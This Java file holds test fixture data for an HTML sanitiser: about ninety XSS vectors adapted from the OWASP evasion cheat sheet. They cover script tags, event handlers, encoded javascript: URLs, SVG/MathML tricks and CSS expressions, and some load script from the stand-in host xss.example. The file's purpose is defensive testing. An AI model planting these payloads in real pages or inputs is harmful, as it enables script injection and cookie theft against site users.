package org.scholion.documents.ingest;

import java.util.List;

/**
 * HTML that tries to run script, load something, or navigate, after the OWASP XSS Filter Evasion Cheat Sheet
 * (the vectors that can be reproduced in a fragment; each would call {@code xss()}, {@code alert()}, or set
 * {@code window.pwned} if it ran). Shared by the sanitiser's unit test and the browser test that inserts each
 * sanitised output into Chromium and watches for anything that runs.
 */
final class XssVectors {
    private XssVectors() {
    }

    static final List<String> ALL = List.of(
            // script tags, plain and obfuscated
            "<script>xss()</script>",
            "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
            "<script/xss src=\"https://xss.example/xss.js\"></script>",
            "<<SCRIPT>xss();//<</SCRIPT>",
            "<SCRIPT SRC=https://xss.example/xss.js?< B >",
            "<script>window.pwned=1</script><p>after</p>",
            "</title><script>xss()</script>",
            "<scr<script>ipt>xss()</scr</script>ipt>",
            // event handlers
            "<img src=x onerror=xss()>",
            "<IMG SRC=# onmouseover=\"alert('xxs')\">",
            "<img src=/ onerror=\"xss()\"></img>",
            "<body onload=xss()>",
            "<BODY ONLOAD=alert('XSS')>",
            "<div onmouseover=\"xss()\">hover</div>",
            "<p onclick=xss() onfocus=xss() tabindex=0 autofocus>click</p>",
            "<details open ontoggle=xss()>",
            "<input autofocus onfocus=xss()>",
            "<select autofocus onfocus=xss()></select>",
            "<video><source onerror=\"xss()\"></video>",
            "<audio src=x onerror=xss()>",
            "<marquee onstart=xss()>m</marquee>",
            "<a href=\"https://ok.example/\" onmouseover=xss()>link</a>",
            "<table background=\"javascript:xss()\"><tr><td onclick=xss()>cell</td></tr></table>",
            "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
            // javascript:, vbscript:, data: URLs, obfuscated
            "<a href=\"javascript:xss()\">js</a>",
            "<a href=\"jAvAsCrIpT:xss()\">mixed case</a>",
            "<a href=\"JaVaScRiPt:alert(&quot;XSS&quot;)\">quotes</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss()\">decimal</a>",
            "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058xss()\">padded</a>",
            "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;xss()\">hex</a>",
            "<a href=\"jav\tascript:xss()\">tab</a>",
            "<a href=\"jav&#x09;ascript:xss()\">encoded tab</a>",
            "<a href=\"jav&#x0A;ascript:xss()\">encoded newline</a>",
            "<a href=\"jav&#x0D;ascript:xss()\">encoded return</a>",
            "<a href=\" &#14;  javascript:xss()\">leading spaces and meta char</a>",
            "<a href=\"javascript&colon;xss()\">named colon</a>",
            "<a href=\"vbscript:msgbox('XSS')\">vbs</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=\">data</a>",
            "<a href=\"DATA:text/html,<script>parent.xss()</script>\">DATA</a>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
            "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
            "<form action=\"javascript:xss()\"><button>go</button></form>",
            "<button formaction=\"javascript:xss()\">b</button>",
            "<a href=\"https://ok.example/\" target=\"_blank\">tabnabbing</a>",
            // SVG and MathML namespaces
            "<svg onload=xss()>",
            "<svg><script>xss()</script></svg>",
            "<svg><a xlink:href=\"javascript:xss()\"><text x=20 y=20>svg link</text></a></svg>",
            "<svg><animate onbegin=xss() attributeName=x dur=1s>",
            "<svg><set attributeName=onmouseover to=xss()>",
            "<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>",
            "<math href=\"javascript:xss()\">CLICKME</math>",
            "<math><maction actiontype=\"statusline#http://xss.example\" xlink:href=\"javascript:xss()\">click</maction></math>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=xss()>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
            // styles
            "<style>@import 'https://xss.example/xss.css';</style>",
            "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
            "<div style=\"background-image: url(javascript:xss())\">bg</div>",
            "<div style=\"width: expression(xss());\">expression</div>",
            "<p style=\"behavior: url(xss.htc);\">behaviour</p>",
            "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
            "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
            // frames, objects, embeds, base, meta refresh, srcdoc
            "<iframe src=\"javascript:xss()\"></iframe>",
            "<iframe srcdoc=\"<script>parent.xss()</script>\"></iframe>",
            "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
            "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
            "<object data=\"javascript:xss()\"></object>",
            "<object type=\"text/x-scriptlet\" data=\"https://xss.example/scriptlet.html\"></object>",
            "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC54c3MoKSI+PC9zdmc+\">",
            "<EMBED SRC=\"https://xss.example/xss.swf\" AllowScriptAccess=\"always\"></EMBED>",
            "<base href=\"javascript:xss()//\"><a href=\"/relative\">base</a>",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
            "<template><script>xss()</script></template>",
            "<portal src=\"https://xss.example/\"></portal>",
            "<link rel=import href=\"https://xss.example/x.html\">",
            // unclosed and malformed tags, comments, attribute breaking
            "<img src=\"x\" onerror=\"xss()\"",
            "<a href=\"javascript:xss()\"",
            "<p <script>xss()</script>>",
            "<!--<img src=x onerror=xss()>-->",
            "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
            "<a title=\"\" onmouseover=xss() \">x</a>",
            "<div/onmouseover='xss()'>slash</div>",
            "<img/src/onerror=xss()>",
            "<a href=\"javas&#99;ript:xss()\">partial</a>",
            "<xmp><img src=x onerror=xss()></xmp>",
            "<plaintext><img src=x onerror=xss()>",
            "<textarea><img src=x onerror=xss()></textarea>",
            "<table><tr><td>a<script>xss()</script></td></tr></table>",
            "<a href=\"https://ok.example/\" id=\"cookie\" name=\"location\">clobber</a>",
            "<form id=test><input name=attributes></form>");
}
